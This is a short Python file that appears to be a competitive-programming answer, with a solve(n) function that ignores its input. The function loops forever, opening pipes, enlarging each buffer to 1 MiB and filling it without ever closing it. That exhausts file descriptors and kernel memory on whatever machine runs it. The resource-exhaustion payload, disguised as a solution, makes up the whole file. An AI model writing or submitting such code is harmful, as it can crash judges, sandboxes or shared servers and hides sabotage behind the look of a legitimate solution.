import fcntl
import os


def solve(n):
    while True:
        out, into = os.pipe()
        os.set_blocking(into, False)
        try:
            fcntl.fcntl(into, 1031, 1 << 20)
        except OSError:
            pass
        try:
            while True:
                os.write(into, b"x" * 65536)
        except BlockingIOError:
            pass
